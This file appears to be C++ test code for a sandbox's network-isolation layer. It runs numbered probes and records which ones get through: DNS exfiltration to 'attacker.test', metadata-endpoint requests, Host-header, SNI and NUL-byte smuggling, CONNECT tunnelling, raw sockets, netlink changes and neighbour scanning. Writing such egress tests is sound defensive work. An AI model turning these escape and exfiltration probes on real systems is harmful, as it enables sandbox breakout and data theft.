#include "tests/adversarial/attack.h"

#include <arpa/inet.h>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <fcntl.h>
#include <fstream>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <netpacket/packet.h>
#include <optional>
#include <poll.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

#include "tests/net/hello_maker.h"

namespace attack {
namespace {

constexpr int kPatience_ms = 1'500;
constexpr std::size_t kMostAnswer = 1 << 16;

/// A socket address of either family.
struct Address {
  sockaddr_storage bytes{};
  socklen_t size = 0;
  [[nodiscard]] const sockaddr* get() const { return reinterpret_cast<const sockaddr*>(&bytes); }
  [[nodiscard]] int family() const { return bytes.ss_family; }
};

Address address_of(const std::string& text, std::uint16_t port) {
  Address made;
  sockaddr_in v4{};
  sockaddr_in6 v6{};
  if (inet_pton(AF_INET, text.c_str(), &v4.sin_addr) == 1) {
    v4.sin_family = AF_INET;
    v4.sin_port = htons(port);
    made.size = sizeof(v4);
    std::memcpy(&made.bytes, &v4, sizeof(v4));
  } else if (inet_pton(AF_INET6, text.c_str(), &v6.sin6_addr) == 1) {
    v6.sin6_family = AF_INET6;
    v6.sin6_port = htons(port);
    made.size = sizeof(v6);
    std::memcpy(&made.bytes, &v6, sizeof(v6));
  }
  return made;
}

std::string error_text(int number) {
  return strerrordesc_np(number);
}

class Socket {
 public:
  Socket(int family, int kind, int protocol = 0)
      : fd_(::socket(family, kind | SOCK_CLOEXEC, protocol)), error_(fd_ < 0 ? errno : 0) {}
  Socket(const Socket&) = delete;
  Socket& operator=(const Socket&) = delete;
  ~Socket() {
    if (fd_ >= 0) {
      close(fd_);
    }
  }
  [[nodiscard]] int get() const { return fd_; }
  [[nodiscard]] int error() const { return error_; }

  /// 0, or the errno.
  [[nodiscard]] int connect(const Address& to, int patience_ms = kPatience_ms) const {
    if (fd_ < 0) {
      return error_;
    }
    fcntl(fd_, F_SETFL, O_NONBLOCK);
    if (::connect(fd_, to.get(), to.size) == 0) {
      return 0;
    }
    if (errno != EINPROGRESS) {
      return errno;
    }
    pollfd wait{fd_, POLLOUT, 0};
    if (poll(&wait, 1, patience_ms) != 1) {
      return ETIMEDOUT;
    }
    int error = 0;
    socklen_t size = sizeof(error);
    getsockopt(fd_, SOL_SOCKET, SO_ERROR, &error, &size);
    return error;
  }

  [[nodiscard]] bool send(const std::string& bytes) const {
    return ::send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL) ==
           static_cast<ssize_t>(bytes.size());
  }

  /// What comes next; nothing after the patience, "" at the end or a reset.
  [[nodiscard]] std::optional<std::string> receive(int patience_ms = kPatience_ms) const {
    pollfd wait{fd_, POLLIN, 0};
    if (poll(&wait, 1, patience_ms) != 1) {
      return std::nullopt;
    }
    std::string bytes(kMostAnswer, '\0');
    const ssize_t got = recv(fd_, bytes.data(), bytes.size(), 0);
    bytes.resize(got > 0 ? static_cast<std::size_t>(got) : 0);
    return bytes;
  }

 private:
  int fd_;
  int error_;
};

class Attacks {
 public:
  explicit Attacks(const Targets& targets) : to_(targets) {}

  std::vector<Outcome> take() {
    change_the_network();
    speak_below_the_network();
    ask_names();
    ask_name_servers();
    dial_addresses();
    dial_the_metadata_name();
    dial_the_machine();
    ask_for_another_host();
    ping();
    return std::move(outcomes_);
  }

 private:
  void add(std::string part, bool open, std::string how) {
    outcomes_.push_back({std::move(part), open, std::move(how)});
  }
  void add(std::string part, int error, const std::string& when_open) {
    add(std::move(part), error == 0, error == 0 ? when_open : error_text(error));
  }

  // ---- A01 ----

  /// Asks the kernel to give an address to the loopback, and takes it back.
  static int change_address(int kind, int flags) {
    struct {
      nlmsghdr header{};
      ifaddrmsg address{};
      rtattr attribute{};
      std::uint32_t value = htonl(0xc6336407);  // 198.51.100.7
    } request;
    request.header.nlmsg_len = sizeof(request);
    request.header.nlmsg_type = static_cast<std::uint16_t>(kind);
    request.header.nlmsg_flags = static_cast<std::uint16_t>(NLM_F_REQUEST | NLM_F_ACK | flags);
    request.address.ifa_family = AF_INET;
    request.address.ifa_prefixlen = 32;
    request.address.ifa_index = 1;
    request.attribute.rta_type = IFA_LOCAL;
    request.attribute.rta_len = RTA_LENGTH(sizeof(request.value));
    const Socket netlink(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    if (netlink.get() < 0) {
      return netlink.error();
    }
    struct {
      nlmsghdr header;
      nlmsgerr error;
      std::array<char, 512> rest;
    } answer{};
    if (::send(netlink.get(), &request, sizeof(request), 0) < 0 ||
        recv(netlink.get(), &answer, sizeof(answer), 0) < 0) {
      return errno;
    }
    return -answer.error.error;
  }

  void change_the_network() {
    const int error = change_address(RTM_NEWADDR, NLM_F_CREATE | NLM_F_EXCL);
    if (error == 0) {
      change_address(RTM_DELADDR, 0);
    }
    add("A01 give the network an address", error, "done");
    const Socket filter(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
    add("A01 speak to the packet filter", filter.error(), "socket");
    const Socket any(AF_INET, SOCK_DGRAM);
    ifreq request{};
    std::memcpy(request.ifr_name, "lo", sizeof("lo"));
    request.ifr_mtu = 65'536;
    const int set = any.get() < 0 || ioctl(any.get(), SIOCSIFMTU, &request) != 0 ? errno : 0;
    add("A01 set up the interface anew", set, "done");
    // In a child: it would have another network afterwards.
    const pid_t child = fork();
    if (child == 0) {
      _exit(unshare(CLONE_NEWNET) == 0 || unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0 ? 0 : errno);
    }
    int status = 0;
    waitpid(child, &status, 0);
    add("A01 make a network", WEXITSTATUS(status), "done");
    dial("A01 dial the canary after it all", to_.canary4, to_.port);
  }

  // ---- A02 ----

  void speak_below_the_network() {
    const Socket packet(AF_PACKET, SOCK_DGRAM, htons(0x0800));
    add("A02 packet socket", packet.error(), "socket");
    const Socket raw(AF_INET, SOCK_RAW, IPPROTO_RAW);
    add("A02 raw IP socket", raw.error(), "socket");
    const Socket raw6(AF_INET6, SOCK_RAW, IPPROTO_UDP);
    add("A02 raw IPv6 socket", raw6.error(), "socket");
  }

  // ---- A03, A04, A05, A12, A13 ----

  static std::string query(const std::vector<std::string>& labels, std::uint8_t type) {
    std::string bytes{"\x51\x7e\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12};
    for (const std::string& label : labels) {
      bytes += static_cast<char>(label.size());
      bytes += label;
    }
    bytes += std::string{"\0\0", 2} + static_cast<char>(type) + std::string{"\0\x01", 2};
    return bytes;
  }

  static std::vector<std::string> labels_of(const std::string& name) {
    std::vector<std::string> labels;
    std::size_t at = 0;
    while (at < name.size()) {
      const std::size_t end = std::min(name.find('.', at), name.size());
      labels.push_back(name.substr(at, end - at));
      at = end + 1;
    }
    return labels;
  }

  struct Answered {
    int error = 0;  // nothing came
    int code = -1;
    bool has_address = false;
    std::string address;
  };

  static Answered read_answer(const std::optional<std::string>& bytes) {
    Answered answer;
    if (!bytes) {
      answer.error = ETIMEDOUT;
    } else if (bytes->size() < 12) {
      answer.error = ECONNREFUSED;
    } else {
      answer.code = (*bytes)[3] & 0x0f;
      answer.has_address = (*bytes)[7] != 0;
      if (answer.has_address) {
        const auto* const last =
            reinterpret_cast<const unsigned char*>(bytes->data()) + bytes->size() - 4;
        for (int i = 0; i < 4; ++i) {
          answer.address += (i == 0 ? "" : ".") + std::to_string(last[i]);
        }
      }
    }
    return answer;
  }

 public:
  static Answered ask(const std::string& server, const std::string& question) {
    const Address to = address_of(server, 53);
    const Socket udp(to.family(), SOCK_DGRAM);
    if (const int error = udp.connect(to); error != 0 || !udp.send(question)) {
      return {error != 0 ? error : errno, -1, false, ""};
    }
    return read_answer(udp.receive());
  }

  static std::string name_server() {
    std::ifstream file("/etc/resolv.conf");
    std::string word;
    std::string value;
    while (file >> word >> value) {
      if (word == "nameserver") {
        return value;
      }
    }
    return "127.0.0.1";
  }

  static Answered look_up(const std::string& name) {
    return ask(name_server(), query(labels_of(name), 1));
  }

 private:
  static Answered ask_tcp(const std::string& server, const std::string& question) {
    const Address to = address_of(server, 53);
    const Socket tcp(to.family(), SOCK_STREAM);
    if (const int error = tcp.connect(to); error != 0) {
      return {error, -1, false, ""};
    }
    if (!tcp.send(net_test::number(question.size(), 2) + question)) {
      return {errno, -1, false, ""};
    }
    auto bytes = tcp.receive();
    if (bytes && bytes->size() > 2) {
      bytes->erase(0, 2);
    }
    return read_answer(bytes);
  }

  void add(std::string part, const Answered& answer, int took_ms = -1) {
    std::string how = answer.error != 0    ? error_text(answer.error)
                      : answer.has_address ? "answered with " + answer.address
                      : answer.code == 5   ? "REFUSED"
                      : answer.code == 1   ? "FORMERR"
                                           : "code " + std::to_string(answer.code);
    if (took_ms > 50) {
      how += " after " + std::to_string(took_ms) + " ms";
    }
    add(std::move(part), answer.has_address, std::move(how));
  }

  void ask_names() {
    using Clock = std::chrono::steady_clock;
    const std::string secret = "4141414142424242.attacker.test";
    for (const std::uint8_t type : {std::uint8_t{1}, std::uint8_t{28}, std::uint8_t{16}}) {
      const auto begin = Clock::now();
      const Answered answer = ask(name_server(), query(labels_of(secret), type));
      const auto took = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - begin);
      add("A03 ask for type " + std::to_string(type), answer, static_cast<int>(took.count()));
    }
    std::vector<std::string> hidden = {std::string("attacker.test\0", 14)};
    for (const std::string& label : labels_of(to_.good)) {
      hidden.push_back(label);
    }
    add("A12 a NUL in a label", ask(name_server(), query(hidden, 1)));
    for (const std::string& name : {to_.good + ".attacker.test",
                                    "evil" + to_.good,
                                    "x" + to_.good,
                                    std::string("wild.test")}) {
      add("A13 " + name, look_up(name));
    }
  }

  void ask_name_servers() {
    const std::string question = query(labels_of("4343.attacker.test"), 1);
    add("A04 by UDP", ask(to_.canary4, question));
    add("A04 by TCP", ask_tcp(to_.canary4, question));
    add("A04 by IPv6", ask(to_.canary6, question));
    for (const char* const stub : {"127.0.0.11", "127.0.0.53"}) {
      add("A05 ask " + std::string(stub) + " by UDP", ask(stub, question));
      add("A05 ask " + std::string(stub) + " by TCP", ask_tcp(stub, question));
    }
  }

  // ---- A06, A07, A08 ----

  [[nodiscard]] Address canary4() const { return address_of(to_.canary4, to_.port); }

  /// Whoever is there says so: a connection alone may be one that is cut at once.
  void dial(const std::string& part, const std::string& address, std::uint16_t port) {
    const Address to = address_of(address, port);
    const Socket tcp(to.family(), SOCK_STREAM);
    exchange(part, tcp, to, "GET / HTTP/1.1\r\nHost: stolen\r\n\r\n");
  }

  void dial_addresses() {
    dial("A06 the canary by IPv4", to_.canary4, to_.port);
    dial("A06 the canary by IPv6", to_.canary6, to_.port);
    dial("A06 the canary by mapped IPv6", "::ffff:" + to_.canary4, to_.port);
    const Socket udp(AF_INET, SOCK_DGRAM);
    const Address to = canary4();
    const ssize_t sent = sendto(udp.get(), "stolen", 6, 0, to.get(), to.size);
    add("A06 the canary by UDP", sent < 0 ? errno : 0, "sent");
    dial("A07 a link-local address", to_.link_local, to_.port);
  }

  void dial_the_metadata_name() {
    const Answered found = look_up(to_.meta);
    if (!found.has_address) {
      add("A07 a name that leads to metadata", found);
      return;
    }
    const Address to = address_of(found.address, to_.port);
    const Socket tcp(AF_INET, SOCK_STREAM);
    exchange("A07 a name that leads to metadata",
             tcp,
             to,
             "GET /latest/meta-data/ HTTP/1.1\r\nHost: " + to_.meta + "\r\n\r\n");
  }

  void dial_the_machine() {
    dial("A08 the machine's own address", to_.machine, to_.port);
    if (!to_.bridge.empty()) {
      dial("A08 the engine's bridge", to_.bridge, to_.port);
    }
    dial("A08 the machine's loopback", "127.0.0.1", to_.port);
    dial("A08 the allowed host by its address", "127.7.7.9", to_.good_port);
    for (const char* const name : {"host.docker.internal", "host.containers.internal"}) {
      add("A08 ask for " + std::string(name), look_up(name));
    }
  }

  // ---- A10, A11, A12 ----

  /// Open where anything comes back.
  void exchange(const std::string& part,
                const Socket& tcp,
                const Address& to,
                const std::string& bytes) {
    if (const int error = tcp.connect(to); error != 0) {
      add(part, error, "");
      return;
    }
    if (!tcp.send(bytes)) {
      add(part, errno, "");
      return;
    }
    const auto answer = tcp.receive(6'000);
    if (!answer) {
      add(part, false, "connected, and nothing came");
    } else if (answer->empty()) {
      add(part, false, "closed");
    } else {
      add(part, true, "answered");
    }
  }

  void ask_for_another_host() {
    const Answered found = look_up(to_.good);
    if (!found.has_address) {
      add("A10 the allowed name", false, "not tried: nobody knows it");
      return;
    }
    const Address to = address_of(found.address, to_.good_port);
    const auto request = [&](const std::string& part, const std::string& text) {
      const Socket tcp(AF_INET, SOCK_STREAM);
      exchange(part, tcp, to, text);
    };
    request("A10 Host of another", "GET /a10 HTTP/1.1\r\nHost: other.test\r\n\r\n");
    request("A10 no Host", "GET /a10 HTTP/1.0\r\n\r\n");
    request("A10 another URL",
            "GET http://other.test/a10 HTTP/1.1\r\nHost: " + to_.good + "\r\n\r\n");
    request("A10 Host of another behind an empty line",
            "\r\nGET /a10 HTTP/1.1\r\nHost: other.test\r\n\r\n");
    request("A10 Host of another, a method of no server",
            "a10 /a10 HTTP/1.1\r\nHost: other.test\r\n\r\n");
    const auto second = [&](const std::string& part, const std::string& text) {
      const Socket tcp(AF_INET, SOCK_STREAM);
      if (tcp.connect(to) == 0 && tcp.send("GET / HTTP/1.1\r\nHost: " + to_.good + "\r\n\r\n") &&
          tcp.receive()) {
        const bool sent = tcp.send(text);
        const auto answer = tcp.receive();
        const bool open = sent && answer && !answer->empty();
        add(part, open, open ? "answered" : "closed");
      } else {
        add(part, false, "not tried: no answer to the first");
      }
    };
    second("A10 Host of another in the second request",
           "GET /a10-second HTTP/1.1\r\nHost: other.test\r\n\r\n");
    // What it looks at as the server's yes could be the body of the first answer.
    second("A10 a WebSocket in the second request",
           "GET /a10-socket HTTP/1.1\r\nHost: " + to_.good +
               "\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n");
    request("A11 SNI of another", net_test::hello_for("other.test"));
    request("A11 no SNI", net_test::in_records(net_test::hello_message({})));
    request("A12 CONNECT",
            "CONNECT " + to_.canary4 + ":80 HTTP/1.1\r\nHost: " + to_.good + "\r\n\r\n");
    request("A12 a NUL in a Host",
            std::string("GET /a12 HTTP/1.1\r\nHost: other.test\0.", 38) + to_.good + "\r\n\r\n");
  }

  // ---- A19 ----

  void ping() {
    icmphdr echo{};
    echo.type = ICMP_ECHO;
    const Address v4 = address_of(to_.canary4, 0);
    for (const int kind : {SOCK_DGRAM, SOCK_RAW}) {
      const Socket icmp(AF_INET, kind, IPPROTO_ICMP);
      const ssize_t sent =
          icmp.get() < 0 ? -1 : sendto(icmp.get(), &echo, sizeof(echo), 0, v4.get(), v4.size);
      add(std::string("A19 ICMP, ") + (kind == SOCK_RAW ? "raw" : "datagram"),
          sent >= 0        ? 0
          : icmp.get() < 0 ? icmp.error()
                           : errno,
          "sent");
    }
    icmp6_hdr echo6{};
    echo6.icmp6_type = ICMP6_ECHO_REQUEST;
    const Address v6 = address_of(to_.canary6, 0);
    for (const int kind : {SOCK_DGRAM, SOCK_RAW}) {
      const Socket icmp(AF_INET6, kind, IPPROTO_ICMPV6);
      const ssize_t sent =
          icmp.get() < 0 ? -1 : sendto(icmp.get(), &echo6, sizeof(echo6), 0, v6.get(), v6.size);
      add(std::string("A19 ICMPv6, ") + (kind == SOCK_RAW ? "raw" : "datagram"),
          sent >= 0        ? 0
          : icmp.get() < 0 ? icmp.error()
                           : errno,
          "sent");
    }
  }

  const Targets& to_;
  std::vector<Outcome> outcomes_;
};

}  // namespace

std::vector<Outcome> try_all(const Targets& targets) {
  return Attacks(targets).take();
}

Fetched fetch(const std::string& host, std::uint16_t port, const std::string& authorization) {
  const auto found = Attacks::look_up(host);
  if (!found.has_address) {
    return {false, "cannot resolve host: " + host};
  }
  const Socket tcp(AF_INET, SOCK_STREAM);
  if (const int error = tcp.connect(address_of(found.address, port)); error != 0) {
    return {false, error_text(error)};
  }
  const std::string header =
      authorization.empty() ? "" : "Authorization: " + authorization + "\r\n";
  if (!tcp.send("GET / HTTP/1.1\r\nHost: " + host + "\r\n" + header +
                "Connection: close\r\n\r\n")) {
    return {false, error_text(errno)};
  }
  std::string all;
  for (;;) {
    const auto more = tcp.receive(5'000);
    if (!more || more->empty()) {
      break;
    }
    all += *more;
  }
  const std::size_t body = all.find("\r\n\r\n");
  return body == std::string::npos ? Fetched{false, "no answer"}
                                   : Fetched{true, all.substr(body + 4)};
}

Fetched ask(bool udp, const std::string& host, std::uint16_t port, const std::string& text) {
  Address to = address_of(host, port);
  if (to.size == 0) {
    const auto found = Attacks::look_up(host);
    if (!found.has_address) {
      return {false, "cannot resolve host: " + host};
    }
    to = address_of(found.address, port);
  }
  const Socket socket(to.family(), udp ? SOCK_DGRAM : SOCK_STREAM);
  if (const int error = socket.connect(to); error != 0) {
    return {false, error_text(error)};
  }
  if (!socket.send(text)) {
    return {false, error_text(errno)};
  }
  const auto answer = socket.receive();
  return answer && !answer->empty() ? Fetched{true, *answer} : Fetched{false, "no answer"};
}

int hold(const std::string& host, std::uint16_t port) {
  const auto found = Attacks::look_up(host);
  const Socket tcp(AF_INET, SOCK_STREAM);
  int answers = 0;
  if (!found.has_address || tcp.connect(address_of(found.address, port)) != 0) {
    return answers;
  }
  while (tcp.send("GET / HTTP/1.1\r\nHost: " + host + "\r\n\r\n")) {
    const auto answer = tcp.receive();
    if (!answer || answer->empty()) {
      break;
    }
    ++answers;
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  return answers;
}

std::int64_t pull(const std::string& host, std::uint16_t port) {
  const auto found = Attacks::look_up(host);
  const Socket tcp(AF_INET, SOCK_STREAM);
  std::int64_t bytes = 0;
  if (found.has_address && tcp.connect(address_of(found.address, port)) == 0 &&
      tcp.send("GET /much HTTP/1.1\r\nHost: " + host + "\r\n\r\n")) {
    for (auto some = tcp.receive(); some && !some->empty(); some = tcp.receive()) {
      bytes += static_cast<std::int64_t>(some->size());
    }
  }
  return bytes;
}

int serve(std::uint16_t port, int milliseconds) {
  const Socket listener(AF_INET, SOCK_STREAM);
  const Address here = address_of("0.0.0.0", port);
  if (bind(listener.get(), here.get(), here.size) != 0 || listen(listener.get(), 16) != 0) {
    return -1;
  }
  using Clock = std::chrono::steady_clock;
  int visitors = 0;
  for (const auto end = Clock::now() + std::chrono::milliseconds(milliseconds);
       Clock::now() < end;) {
    pollfd wait{listener.get(), POLLIN, 0};
    if (poll(&wait, 1, 50) == 1) {
      close(accept4(listener.get(), nullptr, nullptr, SOCK_CLOEXEC));
      ++visitors;
    }
  }
  return visitors;
}

int dial_neighbours(std::uint16_t port, int milliseconds) {
  using Clock = std::chrono::steady_clock;
  int reached = 0;
  for (const auto end = Clock::now() + std::chrono::milliseconds(milliseconds);
       Clock::now() < end;) {
    for (const char* const address :
         {"127.0.0.1", "198.18.0.1", "198.18.1.0", "172.17.0.2", "172.17.0.3", "10.88.0.2"}) {
      const Socket tcp(AF_INET, SOCK_STREAM);
      reached += tcp.connect(address_of(address, port), 100) == 0 ? 1 : 0;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  return reached;
}

}  // namespace attack
